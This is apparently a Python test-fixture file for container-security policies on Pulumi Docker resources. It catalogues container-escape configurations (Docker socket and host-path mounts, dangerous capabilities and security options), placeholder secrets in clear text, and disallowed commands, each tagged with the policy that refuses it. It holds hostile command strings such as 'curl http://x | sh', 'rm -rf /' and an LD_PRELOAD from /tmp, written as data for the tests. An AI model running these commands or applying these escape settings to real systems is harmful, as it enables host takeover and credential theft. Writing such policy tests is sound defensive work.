# ruff: noqa: S108 - nothing is written there
"""Ways out of a container and secrets in clear text, and harmless containers and resources that look like them."""

import json
from collections.abc import Mapping
from typing import Any

from components.file_archive import packed
from policies.readers import declared_resources as declared
from tests.policy.pack_host import UNKNOWN, Resource

SOCKET, HOST, CLEAR = "docker-socket", "apart-from-the-host", "no-secrets-in-clear"
KINDS, COMMANDS, PINNED = "known-kinds", "known-commands", "images-are-pinned"
ENGINE = "one-engine"
NETWORK, COMMAND = "docker:index/network:Network", "command:local:Command"
PROVIDER = "pulumi:providers:docker"

Props = dict[str, Any]


def bind(source: Any, *, read_only: Any = False) -> Props:
    return {"mounts": [{"type": "bind", "source": source, "target": "/x", "readOnly": read_only}]}


def host_path(source: Any, *, read_only: Any = False) -> Props:
    return {"volumes": [{"hostPath": source, "containerPath": "/x", "readOnly": read_only}]}


def named(name: Any) -> Props:
    return {"volumes": [{"volumeName": name, "containerPath": "/x"}]}


def driver(**options: Any) -> Props:
    """A mount of a volume that the engine creates with these options."""
    how = {"driverName": "local", "driverOptions": options}
    return {"mounts": [{"type": "volume", "source": "v", "target": "/x", "volumeOptions": how}]}


def read(path: str) -> Props:
    return bind(path, read_only=True)


def adds(*capabilities: Any) -> Props:
    return {"capabilities": {"drops": ["ALL"], "adds": list(capabilities)}}


def env(name: str, value: str) -> Props:
    return {"envs": [f"{name}={value}"]}


def args(*words: str) -> Props:
    return {"command": list(words)}


def health(*words: str) -> Props:
    return {"healthcheck": {"tests": list(words)}}


def upload(path: str, content: str) -> Props:
    return {"uploads": [{"file": path, "content": content}]}


def of(kind: str, **props: Any) -> Resource:
    return Resource(props, kind=kind)


def of_volume(**options: Any) -> Resource:
    return of(declared.VOLUME, name="v", driver="local", driverOpts=options)


def network(**props: Any) -> Resource:
    return of(NETWORK, name="n", **props)


def command(text: Any, **props: Any) -> Resource:
    return of(COMMAND, create=text, **props)


KNOWN = ".venv/bin/python -m engine.activate"
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----"  # gitleaks:allow

ESCAPES: Mapping[str, tuple[str, Props]] = {
    # the engine's socket, under whatever name
    "a volume whose name is the socket": (SOCKET, named("/var/run/docker.sock")),
    "a volume whose name is the host": (SOCKET, named("/")),
    "a volume whose name is a folder with the socket in it": (SOCKET, named("/run/../run/")),
    "a volume whose name is the socket and says where to": (SOCKET, named("/var/run/docker.sock:/y")),
    "a mount of a volume whose name is the socket": (
        SOCKET,
        {"mounts": [{"type": "volume", "source": "/var/run/docker.sock", "target": "/x"}]},
    ),
    "a volume's device is the socket": (SOCKET, driver(type="none", o="bind", device="/run/docker.sock")),
    "a volume's device is the socket, and it is read-only": (
        SOCKET,
        driver(type="none", o="ro,rbind", device="/run/docker.sock"),
    ),
    "the socket of dockershim": (SOCKET, bind("/var/run/dockershim.sock")),
    "the socket of cri-dockerd": (SOCKET, read("/run/cri-dockerd.sock")),
    "the socket of CRI-O": (SOCKET, read("/var/run/crio/crio.sock")),
    "the socket of k3s": (SOCKET, read("/run/k3s/containerd/containerd.sock")),
    "the folder of k3s's socket": (SOCKET, read("/run/k3s")),
    "the socket of Podman": (SOCKET, read("/run/podman/podman.sock")),
    "the socket of LXD": (SOCKET, read("/var/snap/lxd/common/lxd/unix.socket")),
    "the socket of libvirt": (SOCKET, read("/run/libvirt/libvirt-sock")),
    "the bus of the host's services": (SOCKET, read("/run/dbus/system_bus_socket")),
    "systemd's own socket": (SOCKET, read("/run/systemd/private")),
    "the folder of the rootless socket": (SOCKET, bind("/var/run/user/1000")),
    "a folder inside that of the rootless socket": (SOCKET, read("/run/user/1000/containerd-rootless")),
    "Docker Desktop's socket": (SOCKET, read("/home/me/.docker/run")),
    "the socket under another name": (SOCKET, read("/srv/engine.sock")),
    "the raw socket of Docker Desktop": (SOCKET, read("/var/run/docker.sock.raw")),
    "the socket of Docker Desktop's guests": (SOCKET, read("/run/guest-services")),
    "the socket with dots in its path": (SOCKET, bind("/tmp/../var/run/./docker.sock")),
    "the socket with doubled slashes": (SOCKET, bind("//var//run//docker.sock")),
    "the socket with a trailing slash": (SOCKET, host_path("/var/run/")),
    "the socket through process 1": (SOCKET, read("/proc/1/root/var/run/docker.sock")),
    "the socket through the mounting process": (SOCKET, read("/proc/self/root/run")),
    "a volume of unknown name": (SOCKET, named(UNKNOWN)),
    "a volume of an unknown device": (SOCKET, driver(type="none", o="bind", device=UNKNOWN)),
    "sockets of the desktop": (SOCKET, read("/tmp/.X11-unix")),
    "the agent with the ssh keys": (SOCKET, read("/tmp/ssh-XXXX/agent.123")),
    # volumes that are the host
    "a volume made of the host": (HOST, driver(type="none", o="bind", device="/")),
    "a volume made of the host, in capitals": (HOST, driver(type="NONE", o="RBIND", device="/")),
    "a volume made of a folder of the system": (HOST, driver(type="none", o="bind,rw", device="/etc/cron.d")),
    "a volume made of root's folder, to read": (HOST, driver(type="none", o="bind,ro", device="/root")),
    "a volume made of a disk": (HOST, driver(type="ext4", device="/dev/sda1")),
    "a volume laid over the host": (
        HOST,
        driver(type="overlay", device="overlay", o="lowerdir=/,upperdir=/u,workdir=/w"),
    ),
    "a volume that the host serves to itself": (HOST, driver(type="nfs", device=":/", o="addr=127.0.0.1,rw")),
    "a volume of the kernel's own": (HOST, driver(type="proc", device="proc")),
    "a volume in memory with a device": (HOST, driver(type="tmpfs", device="/dev/sda1")),
    "a volume laid over the host, without a device": (HOST, driver(type="overlay", o="lowerdir=/")),
    "a volume with an option that the engine does not name": (HOST, driver(mountpoint="/etc")),
    "a part of a volume that leads out of it": (
        HOST,
        {"mounts": [{"type": "volume", "source": "v", "target": "/x", "volumeOptions": {"subpath": "../../etc"}}]},
    ),
    "mounts that the host gets too": (
        HOST,
        {"mounts": [{**bind("/srv/shop/data")["mounts"][0], "bindOptions": {"propagation": "rshared"}}]},
    ),
    "a folder in memory that is another one": (HOST, {"tmpfs": {"/x": "bind,size=1m"}}),
    "a volume of a plugin": (
        HOST,
        {
            "mounts": [
                {"type": "volume", "source": "v", "target": "/x", "volumeOptions": {"driverName": "local-persist"}}
            ]
        },
    ),
    "a volume with a path as its name": (HOST, named("/srv/data")),
    "a volume with a relative path as its name": (HOST, named("../etc")),
    "a volume that hides a path behind a colon": (HOST, named("data:/x")),
    "a target that hides a source": (HOST, {"volumes": [{"containerPath": "/var/run/docker.sock:/x"}]}),
    "a relative folder": (HOST, bind("etc")),
    "a home folder by its short name": (HOST, read("~/.ssh")),
    "a mount of another type": (HOST, {"mounts": [{"type": "npipe", "source": "x", "target": "/x"}]}),
    "volumes of another container": (HOST, {"volumes": [{"fromContainer": "nervous-dev-cadvisor"}]}),
    "volumes of an unknown container": (HOST, {"volumes": [{"fromContainer": UNKNOWN}]}),
    # paths of the host
    "Docker's volumes": (HOST, bind("/var/lib/docker/volumes")),
    "Docker's volumes, to read": (HOST, read("/var/lib/docker/volumes")),
    "Docker's data, by an unclean path": (HOST, read("/var//lib/./docker/")),
    "Podman's data, to read": (HOST, read("/var/lib/containers")),
    "containerd's data, to read": (HOST, read("/var/lib/containerd")),
    "kubelet's data, to read": (HOST, read("/var/lib/kubelet")),
    "everything in /var/lib, to read": (HOST, read("/var/lib")),
    "units of systemd": (HOST, bind("/etc/systemd/system")),
    "a folder of a user": (HOST, bind("/home/deploy/.ssh")),
    "keys of a user, to read": (HOST, read("/home/deploy/.ssh")),
    "one key of a user, to read": (HOST, read("/home/deploy/.ssh/id_ed25519")),
    "cloud keys of a user, to read": (HOST, read("/home/deploy/.aws/credentials")),
    "the home folder of a user, to read": (HOST, read("/home/deploy")),
    "all users, to read": (HOST, read("/home/")),
    "libraries": (HOST, bind("/lib64")),
    "programs in /opt": (HOST, bind("/opt")),
    "programs in /usr/local/bin": (HOST, bind("/usr/local/bin")),
    "the log of the host, to write": (HOST, bind("/var/log")),
    "jobs of cron": (HOST, bind("/var/spool/cron")),
    "the folder for temporary files": (HOST, bind("/tmp")),
    "all data of all services": (HOST, bind("/srv")),
    "the boot loader": (HOST, bind("/boot/grub")),
    "root's folder, to read": (HOST, read("/root")),
    "root's keys, to read": (HOST, read("/root/.ssh")),
    "passwords of the host, to read": (HOST, read("/etc/shadow")),
    "older passwords of the host, to read": (HOST, read("/etc/gshadow-")),
    "the folder with the passwords of the host, to read": (HOST, read("/etc")),
    "the rules of sudo, to read": (HOST, read("/etc/sudoers.d")),
    "keys of the host, to read": (HOST, read("/etc/ssh")),
    "TLS keys of the host, to read": (HOST, read("/etc/ssl/private")),
    "TLS keys of Let's Encrypt, to read": (HOST, read("/etc/letsencrypt/live")),
    "keys of WireGuard, to read": (HOST, read("/etc/wireguard/wg0.conf")),
    "keys of Docker's TLS, to read": (HOST, read("/etc/docker")),
    "Kubernetes' keys, to read": (HOST, read("/etc/kubernetes/admin.conf")),
    "secrets of other services, to read": (HOST, read("/run/secrets")),
    "credentials of units, to read": (HOST, read("/run/credentials")),
    "copies of the passwords, to read": (HOST, read("/var/backups")),
    "the host, to read": (HOST, read("/")),
    "another process, to read": (HOST, read("/proc/1/environ")),
    "memory as a file": (HOST, read("/proc/kcore")),
    "settings of the kernel": (HOST, bind("/proc/sys")),
    "cgroups": (HOST, bind("/sys/fs/cgroup")),
    "the host's devices": (HOST, read("/dev")),
    "temporary files of others, to read": (HOST, read("/tmp")),
    "the kernel's insides, to read": (HOST, read("/sys/kernel/debug")),
    "a disk as a file": (HOST, read("/dev/sda")),
    "a path that may be writable": (HOST, bind("/etc/hosts", read_only=UNKNOWN)),
    # devices
    "memory of the host": (HOST, {"devices": [{"hostPath": "/dev/mem"}]}),
    "a disk": (HOST, {"devices": [{"hostPath": "/dev/sda", "permissions": "r"}]}),
    "unknown devices": (HOST, {"devices": UNKNOWN}),
    "a device with more rights than allowed": (HOST, {"devices": [{"hostPath": "/dev/kmsg", "permissions": "rw"}]}),
    "a key of the deploying user": (HOST, {"uploads": [{"file": "/x", "source": "~/.ssh/id_ed25519"}]}),
    "a hidden file beside the program": (HOST, {"uploads": [{"file": "/x", "source": ".env"}]}),
    "a stack file": (HOST, {"uploads": [{"file": "/x", "source": "./Pulumi.prod.yaml"}]}),
    "a file outside the program": (HOST, {"uploads": [{"file": "/x", "source": "certs/../../key"}]}),
    "a cgroup rule for devices": (HOST, {"deviceCgroupRules": ["b *:* rwm"]}),
    "devices by request": (HOST, {"deviceRequests": [{"driver": "nvidia", "count": -1}]}),
    "graphics cards": (HOST, {"gpus": "all"}),
    # namespaces
    "processes of another container": (HOST, {"pidMode": "container:nervous-dev-cadvisor"}),
    "memory of another container": (HOST, {"ipcMode": "container:db"}),
    "network of another container": (HOST, {"networkMode": "container:db"}),
    "network of another container, in capitals": (HOST, {"networkMode": "Container:db"}),
    "the host's network, by its name": (HOST, {"networksAdvanced": [{"name": "host"}]}),
    "an unknown network": (HOST, {"networkMode": UNKNOWN}),
    "users of the host": (HOST, {"usernsMode": "host"}),
    "cgroups of the host": (HOST, {"cgroupnsMode": "host"}),
    "another cgroup": (HOST, {"cgroupParent": "/system.slice"}),
    "an unknown namespace of processes": (HOST, {"pidMode": UNKNOWN}),
    # what the kernel allows
    "any file, past its permissions": (HOST, adds("CAP_DAC_READ_SEARCH")),
    "any device": (HOST, adds("CAP_MKNOD")),
    "a restored process": (HOST, adds("CAP_CHECKPOINT_RESTORE")),
    "forged packets": (HOST, adds("NET_RAW")),
    "an unknown capability": (HOST, adds("CAP_TOMORROW")),
    "a weak and a strong one": (HOST, adds("CHOWN", "sys_admin")),
    "no filter of system calls": (HOST, {"securityOpts": ["seccomp=unconfined"]}),
    "its own filter of system calls": (HOST, {"securityOpts": ['seccomp={"defaultAction":"SCMP_ACT_ALLOW"}']}),
    "no AppArmor profile": (HOST, {"securityOpts": ["apparmor=unconfined"]}),
    "another AppArmor profile": (HOST, {"securityOpts": ["apparmor=mine"]}),
    "no SELinux labels": (HOST, {"securityOpts": ["label=disable"]}),
    "the SELinux label with all rights": (HOST, {"securityOpts": ["label=type:spc_t"]}),
    "unmasked paths of the kernel": (HOST, {"securityOpts": ["systempaths=unconfined"]}),
    "new privileges": (HOST, {"securityOpts": ["no-new-privileges:false"]}),
    "unknown options": (HOST, {"securityOpts": UNKNOWN}),
    "a program that runs at each crash": (HOST, {"sysctls": {"kernel.core_pattern": "|/x"}}),
    "overcommitted memory of the host": (HOST, {"sysctls": {"vm.overcommit_memory": "1"}}),
    "a setting of the kernel behind one of the network": (HOST, {"sysctls": {"net/../kernel/core_pattern": "|/x"}}),
    "the host's name": (HOST, {"utsMode": "host"}),
    "another runtime": (HOST, {"runtime": "other"}),
    "may be privileged": (HOST, {"privileged": UNKNOWN}),
}
"""What it is → the policy that refuses it, and the properties of a container."""

SHOWN: Mapping[str, Props] = {
    # by names
    "PGPASSWORD": env("PGPASSWORD", "hunter2hunter2"),
    "SMTP_PASS": env("SMTP_PASS", "hunter2hunter2"),
    "dbPass": env("dbPass", "hunter2"),
    "MYSQL_PWD": env("MYSQL_PWD", "hunter2"),
    "AUTHTOKEN": env("AUTHTOKEN", "abcdef0123456789"),
    "accessToken": env("accessToken", "abcdef"),
    "SECRET_KEY_BASE": env("SECRET_KEY_BASE", "deadbeefdeadbeefdeadbeef"),
    "ENCRYPTION_KEY": env("ENCRYPTION_KEY", "deadbeefdeadbeefdeadbeef"),
    "JWT_SIGNING_KEY": env("JWT_SIGNING_KEY", "deadbeef"),
    "APP_KEY of Laravel": env("APP_KEY", "base64:c2hvcDpwZXBwZXItYW5kLXNhbHQ="),
    "COOKIE_SECRET_OLD": env("COOKIE_SECRET_OLD", "deadbeef"),
    "PASSWORD_PROD": env("PASSWORD_PROD", "deadbeef"),
    "a password that is a number": env("DB_PASSWORD", "12345678"),
    "a password that begins like a path": env("DB_PASSWORD", "/9jzKx+base64"),
    "a password that is one name after a slash": env("DB_PASSWORD", "/hunter2"),
    "REDIS_AUTH": env("REDIS_AUTH", "shop:pepper"),
    "a webhook's address": env("ALERT_WEBHOOK_URL", "https://chat.example.com/hooks/abc123"),
    "DB_PW": env("DB_PW", "hunter2"),
    "ERLANG_COOKIE": env("RABBITMQ_ERLANG_COOKIE", "hunter2"),
    "a key whose name says nothing": env("SHOP_KEY", "c2hvcDpwZXBwZXItYW5kLXNhbHQ1"),
    "LDAP_BINDPW": env("LDAP_BINDPW", "hunter2"),
    "DB_PSW": env("DB_PSW", "hunter2"),
    "DB_PWORD": env("DB_PWORD", "hunter2"),
    "DB_KENNWORT": env("DB_KENNWORT", "hunter2"),
    "MOT_DE_PASSE": env("MOT_DE_PASSE", "hunter2"),
    "CONTRASENA": env("DB_CONTRASENA", "hunter2"),
    "PEPPER": env("PEPPER", "hunter2"),
    "BEARER": env("BEARER", "abc123def456"),
    "HSM_PIN": env("HSM_PIN", "123456"),
    "TOTP_SEED": env("TOTP_SEED", "JBSWY3DPEHPK3PXP"),
    "a login": env("RABBIT_LOGIN", "shop:hunter2"),
    "a login with a slash": env("NEO4J_AUTH", "neo4j/hunter2"),
    "a property of Java": env("JAVA_OPTS", "-Xmx1g -Djavax.net.ssl.keyStorePassword=hunter2"),
    "a login in base64": env("REGISTRY_AUTH", "b3BzOmh1bnRlcjI="),
    "a random text under an innocent name": env("BUILD_FLAVOUR", "x8Kq3vT9zLpW2nRb7YdC5mHgF4jS6aQe"),
    "a secret key of AWS under an innocent name": env("FLAVOUR", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    "a connection in base64": env("SOURCE", "cG9zdGdyZXM6Ly9zaG9wOmh1bnRlcjJAZGIvc2hvcA=="),
    "a pair in base64": env("SETTINGS", "cGFzc3dvcmQ9aHVudGVyMg=="),
    "a login for a registry in base64": env("CFG", "eyJhdXRocyI6eyJnaGNyLmlvIjp7ImF1dGgiOiJkWE5sY2pwb2RXNTBaWEl5In19fQ=="),
    "a header for OTLP": env("OTEL_EXPORTER_OTLP_HEADERS", "api-key=abc123def"),
    "a login for OTLP": env("OTEL_EXPORTER_OTLP_HEADERS", "authorization=hunter2"),
    # connection strings
    "a connection by keywords": env("DATA_SOURCE_NAME", "host=db user=x password=hunter2 sslmode=disable"),
    "a connection by keywords, quoted": env("DSN", "host=db password = 'hunter two'"),
    "a connection of ADO.NET": env("ConnectionStrings__Shop", "Server=db;User Id=sa;Pwd=hunter2;Encrypt=true"),
    "a connection of JDBC": env("JDBC", "jdbc:postgresql://db/shop?user=shop&password=hunter2"),
    "a connection of Go's MySQL": env("SOURCE", "shop:hunter2@tcp(db:3306)/shop"),
    "a connection of Oracle": env("ORA", "shop/hunter2@//db:1521/xe"),
    "a connection of AMQP": env("BROKER", "amqp://guest:guest@mq:5672/"),
    "a connection of MongoDB": env("MONGO", "mongodb+srv://shop:hunter2@cluster.example.com/shop"),
    "a connection of Redis": env("CACHE", "redis://:hunter2@redis:6379/0"),
    "a connection of Redis with commas": env("CACHE", "redis:6380,password=hunter2,ssl=True"),
    "a password with a slash in a URL": env("DB", "postgres://shop:hun/ter2@db/shop"),
    "a token in a URL": env("HOOK", "https://ci.example.com/build?token=abc123def"),
    "Azure's storage": env("AZ", "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=;"),
    "Azure's bus": env("AZ", "Endpoint=sb://x.example.net/;SharedAccessKeyName=root;SharedAccessKey=aGVsbG8gd29ybGQ="),
    "Azure's signed URL": env("AZ", "https://x.blob.core.windows.net/c?sv=2024-01-01&sig=aGVsbG8gd29ybGQgaGVsbG8%3D"),
    "JSON with a password": env("CONFIG", '{"host": "db", "password": "hunter2"}'),
    # looks
    "a private key": env("ANY", KEY),
    "a private key in base64": env("ANY", "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQo="),
    "a key of age": env("ANY", "AGE-SECRET-KEY-1QQQQQQQQQQQQQQQQQQQQQQQQQQQQ"),
    "a key of AWS": env("ANY", "AKIAABCDEFGHIJKLMNOP"),
    "a token of Slack's apps": env("ANY", "xapp-1-A0B1C2D3-0123456789-abcdef"),
    "a hook of Discord": env("ANY", "https://discord.com/api/webhooks/123456789/abcDEF_123"),
    "a token of Telegram": env("ANY", "123456789:AAabcdefghijklmnopqrstuvwxyz0123456"),
    "a token of SendGrid": env("ANY", f"SG.{'a' * 22}.{'b' * 43}"),
    "a token of npm": env("ANY", f"npm_{'a' * 36}"),
    "a token of PyPI": env("ANY", f"pypi-AgEIcHlwaS5vcmc{'a' * 20}"),
    "a token of Docker Hub": env("ANY", "dckr_pat_0123456789abcdefghij_klm"),
    "a token of Vault": env("ANY", "hvs.CAESIJ0123456789abcdefghij"),
    "a token of Pulumi": env("ANY", f"pul-{'0a' * 20}"),
    "a token of DigitalOcean": env("ANY", f"dop_v1_{'0a' * 32}"),
    "a key of OpenAI": env("ANY", f"sk-proj-{'aB3' * 12}"),
    "a token of GitLab's runners": env("ANY", "glrt-0123456789abcdefghij"),
    "a key of Stripe's tests": env("ANY", "sk_test_0123456789abcdef"),
    "a token of Google": env("ANY", "ya29.a0AfH6SMB0123456789abcdef"),
    # command lines
    "redis' own flag": args("redis-server", "--requirepass", "hunter2hunter2"),
    "redis' own flag, all in one": args("redis-server --requirepass hunter2hunter2"),
    "redis' other flag": args("redis-server", "--masterauth", "hunter2"),
    "a flag in one string": args("app --password hunter2hunter2"),
    "a flag with = in one string": args("app --db.password=hunter2"),
    "a flag with one dash": args("app", "-password", "hunter2"),
    "a flag in a shell": {"entrypoints": ["/bin/sh", "-c"], "command": ["exec app --api-key abc123 --port 80"]},
    "a variable in a shell": args("sh", "-c", "PGPASSWORD=hunter2 psql -h db"),
    "an exported variable": args("sh", "-c", "export TOKEN='abc def'; app"),
    "a user with password for curl": args("curl", "-u", "ops:pepper", "http://x"),
    "a user with password for curl in one string": args("curl --user ops:pepper http://x"),
    "a header for curl": args("curl", "-H", "X-Api-Key: abc123def456", "http://x"),
    "a password glued to mysql's flag": args("mysqladmin", "-phunter2", "ping"),
    "sshpass": args("sshpass", "-p", "hunter2", "ssh", "x"),
    "sshpass, glued": args("sshpass", "-phunter2", "ssh", "x"),
    "an archive": args("7z", "a", "-phunter2", "x.7z"),
    "curl, glued": args("curl", "-uops:pepper", "http://x"),
    "curl, with =": args("curl", "--user=ops:pepper", "http://x"),
    "smbclient's way": args("smbclient", "//nas/x", "-U", "ops%hunter2"),
    "docker's login": args("docker", "login", "-u", "ops", "-p", "hunter2"),
    "a key for openssl": args("openssl", "enc", "-k", "hunter2"),
    "a token for influx": args("influx", "query", "-t", "abc123def"),
    "a password for htpasswd": args("htpasswd", "-bc", "/f", "ops", "hunter2"),
    "a password by a pipe": args("sh", "-c", "echo hunter2 | docker login -u ops --password-stdin"),
    "a password by a pipe, quoted": args("sh", "-c", "printf '%s' 'root:hunter2' | chpasswd"),
    "a password of PostgreSQL in a file": args("sh", "-c", "echo 'db:5432:*:shop:hunter2' > ~/.pgpass"),
    "a pair in base64 in a shell": args("sh", "-c", "echo cGFzc3dvcmQ9aHVudGVyMg== | base64 -d > /x"),
    "a password for openssl": args("openssl", "rsa", "-passin", "pass:hunter2"),
    "an entrypoint": {"entrypoints": ["app", "--token=abc123"]},
    "redis' login in a health check": health("CMD", "redis-cli", "-a", "hunter2hunter2", "ping"),
    "redis' login in a shell's health check": health("CMD-SHELL", "redis-cli -a hunter2 ping | grep PONG"),
    "redis' word for a login": health("CMD", "redis-cli", "AUTH", "hunter2"),
    "redis' login after another command": health("CMD-SHELL", "test -f /x && REDISCLI=1 redis-cli -a hunter2 ping"),
    "a URL in a health check": health("CMD", "wget", "-q", "http://ops:pepper@127.0.0.1/"),
    "an unknown health check": {"healthcheck": UNKNOWN},
    # elsewhere
    "a label": {"labels": [{"label": "traefik.basicauth.password", "value": "hunter2"}]},
    "the hash of a password in a label": {"labels": [{"label": "auth.users", "value": "ops:$apr1$H6uskkkW$IgXLP6ewTrSuBkTrqE8wj/"}]},
    "the hash of a password of LDAP": {"labels": [{"label": "auth.users", "value": "ops:{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g="}]},
    "the hash of a password of PostgreSQL": env("ROLE", "md5a3556571e93b0d20722ba62be61e8c2d"),
    "its host name": {"hostname": f"ghp_{'a1' * 18}"},
    "a host in its list of hosts": {"hosts": [{"host": "db.token=hunter2", "ip": "10.0.0.1"}]},
    "an option of the log": {"logOpts": {"splunk-token": "abc-def"}},
    "a share's password": driver(type="cifs", device="//nas/x", o="username=x,password=hunter2"),
    "a config file": upload("/etc/app.yml", "database:\n  host: db\n  password: hunter2\n"),
    "a config file of JSON": upload("/etc/app.json", '{"smtp": {"auth_password": "hunter2"}}'),
    "a config file of properties": upload("/etc/app.properties", "db.user=x\ndb.password=hunter2\n"),
    "a config file with a connection": upload("/etc/app.toml", 'url = "postgres://shop:hunter2@db/shop"\n'),
    "a config file of Redis": upload("/etc/redis.conf", "maxmemory 64mb\nrequirepass hunter2\n"),
    "a script": upload("/start.sh", "#!/bin/sh\nexport PGPASSWORD=hunter2\npsql\n"),
    "a file of variables": upload("/app/.env", "DB_HOST=db\nDB_PASSWORD=hunter2\n"),
    "a file of variables of an environment": upload("/app/.env.prod", "DB_HOST=db\nDB_PASSWORD=hunter2\n"),
    "a config file without a suffix": upload("/app/config", "db_host: db\ndb_password: hunter2\n"),
    "a config file with a suffix in capitals": upload("/app/x.YML", "password: hunter2\n"),
    "a config file with a password that is a number": upload("/app/x.yml", "password: 123456\n"),
    "a config file of XML": upload("/app/x.xml", "<db><password>hunter2</password></db>\n"),
    "a config file of Terraform": upload("/app/x.tfvars", 'host = "db"\ndb_password = "hunter2"\n'),
    "a config file of npm": upload("/root/.npmrc", "fund=false\n//registry.npmjs.org/:_authToken=abc123\n"),
    "a config file of netrc": upload("/root/.netrc", "machine x login ops password hunter2\n"),
    "a config file of Docker": upload("/root/.docker/config.json", '{"auths":{"ghcr.io":{"auth":"b3BzOmh1bnRlcjI="}}}'),
    "a config file of Kubernetes": upload("/x.yaml", "kind: Secret\ndata:\n  x: cGFzc3dvcmQ9aHVudGVyMg==\n"),
    "a build file": upload("/Dockerfile", "FROM scratch\nENV DB_PASSWORD hunter2\n"),
    "a program in Python": upload("/app.py", "import os\nDB_PASSWORD = 'hunter2'\n"),
    "a program in JavaScript": upload("/app.js", "const apiKey = 'abc123def456';\n"),
    "statements of SQL": upload("/x.sql", "CREATE USER shop IDENTIFIED BY 'hunter2';\n"),
    "other statements of SQL": upload("/x.sql", "ALTER ROLE shop WITH PASSWORD 'hunter2';\n"),
    "passwords of PostgreSQL": upload("/x", "# all of them\ndb:5432:*:shop:hunter2\n"),
    "a script in base64": {"uploads": [{"file": "/start.sh", "contentBase64": "ZXhwb3J0IFBHUEFTU1dPUkQ9aHVudGVyMgo="}]},
    "a file in an archive": upload("/x.files", packed({"a.yml": "a: 1\n", "b/c.yml": "password: hunter2\n"})),
    "a file that is no archive, as its name says": upload("/x.files", "password: hunter2\n"),
}  # fmt: skip
"""What it is → the properties of a container; `no-secrets-in-clear` refuses each."""

OTHERS: Mapping[str, tuple[str, Resource]] = {
    "a volume made of the host": (HOST, of_volume(type="none", o="bind", device="/")),
    "a volume made of the host, without a type": (HOST, of_volume(o="bind", device="/etc")),
    "a volume made of the socket": (SOCKET, of_volume(type="none", o="bind", device="/var/run/docker.sock")),
    "a volume made of a disk": (HOST, of_volume(type="ext4", device="/dev/sda1")),
    "a volume of a plugin": (HOST, of(declared.VOLUME, name="v", driver="local-persist", driverOpts={"mountpoint": "/"})),
    "a volume with unknown options": (HOST, of(declared.VOLUME, name="v", driverOpts=UNKNOWN)),
    "a volume with a password": (CLEAR, of_volume(type="cifs", device="//nas/x", o="username=x,password=hunter2")),
    "a volume with a password in a label": (CLEAR, of(declared.VOLUME, name="v", labels=[{"label": "token", "value": "hunter2"}])),
    "a network with a password in a label": (CLEAR, network(labels=[{"label": "token", "value": "hunter2"}])),
    "a volume of Swarm": (KINDS, of(declared.VOLUME, name="v", cluster={"id": "x"})),
    "a network of Swarm": (KINDS, network(ingress=True)),
    "an input of tomorrow": (KINDS, of(declared.CONTAINER, name="x", rootOnHost=True)),
    "a provider with a login to a registry": (KINDS, of(PROVIDER, registryAuth=[{"address": "x", "password": "hunter2"}])),
    "a network whose addresses a plugin chooses": (HOST, network(ipamDriver="dhcp")),
    "a bridge of the host": (HOST, network(options={"com.docker.network.bridge.name": "br-lan"})),
    "a network that is the host's": (HOST, network(driver="host")),
    "a network on the host's wire": (HOST, network(driver="macvlan", options={"parent": "eth0"})),
    "a network of another kind on the host's wire": (HOST, network(driver="ipvlan")),
    "a network that shows all ports": (HOST, network(options={"com.docker.network.bridge.gateway_mode_ipv4": "routed"})),
    "a network that publishes elsewhere": (
        HOST,
        network(options={"com.docker.network.bridge.host_binding_ipv4": "0.0.0.0"}),  # noqa: S104
    ),
    "a network with an unknown driver": (HOST, network(driver=UNKNOWN)),
    "a plugin of the engine": (KINDS, of("docker:index/plugin:Plugin", name="vieux/sshfs")),
    "a service of Swarm": (KINDS, of("docker:index/service:Service", name="x")),
    "an image that is built": (KINDS, of("docker:index/image:Image", imageName="x")),
    "an image built by another package": (KINDS, of("docker-build:index:Image", tags=["x"])),
    "a container of another package": (KINDS, of("docker-native:index:Container", image="x")),
    "a resource in Python": (KINDS, of("pulumi-python:dynamic:Resource")),
    "another engine's provider": (KINDS, of("pulumi:providers:kubernetes")),
    "a command on another machine": (KINDS, of("command:remote:Command", create="id")),
    "a file on another machine": (KINDS, of("command:remote:CopyToRemote")),
    "a pulled image that is built first": (
        PINNED,
        of(declared.IMAGE, name=f"docker.io/prom/prometheus:v3@sha256:{'a' * 64}", build={"context": "."}),
    ),
    "a pulled image without a digest": (PINNED, of(declared.IMAGE, name="docker.io/prom/prometheus:v3")),
    "the latest image, in capitals": (PINNED, of(declared.IMAGE, name=f"docker.io/prom/prometheus:LATEST@sha256:{'a' * 64}")),
    "an engine on another machine, by plain TCP": (ENGINE, of(PROVIDER, host="tcp://10.0.0.9:2375")),
    "an engine behind a program": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts=["-oProxyCommand=curl http://x | sh"])),
    "an engine behind a program, in two words": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts='["-o", "ProxyCommand=sh x"]')),
    "an engine whose key nobody checks": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts=["-oStrictHostKeyChecking=no"])),
    "an engine by another config of ssh": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts=["-F", "x"])),
    "an unknown engine": (ENGINE, of(PROVIDER, host=UNKNOWN)),
    "an engine by the user's context": (ENGINE, of(PROVIDER, host="unix:///x", context="other")),
    "an arbitrary command": (COMMANDS, command("curl http://x | sh")),
    "a command after a known one": (COMMANDS, command(f"{KNOWN}; id")),
    "a command similar to a known one": (COMMANDS, command(".venv/bin/python -m components.activate_not")),
    "an unknown text of a command": (COMMANDS, command(UNKNOWN)),
    "another command at the deletion": (COMMANDS, command(KNOWN, delete="rm -rf /")),
    "another command at a change": (COMMANDS, command(KNOWN, update="id")),
    "a known command with another interpreter": (COMMANDS, command(KNOWN, interpreter=["/tmp/x"])),
    "a known command in another folder": (COMMANDS, command(KNOWN, dir="/tmp")),
    "a known command with a preloaded library": (COMMANDS, command(KNOWN, environment={"LD_PRELOAD": "/tmp/x.so"})),
    "a known command with other modules": (COMMANDS, command(KNOWN, environment={"PYTHONPATH": "/tmp"})),
    "a known command with unknown variables": (COMMANDS, command(KNOWN, environment=UNKNOWN)),
    "a known command that takes files": (COMMANDS, command(KNOWN, assetPaths=["/root/.ssh/*"])),
    "a known command with a password": (CLEAR, command(KNOWN, environment={"ORDER": json.dumps({"password": "hunter2"})})),
}  # fmt: skip
"""What it is → the policy that refuses it, and the resource."""

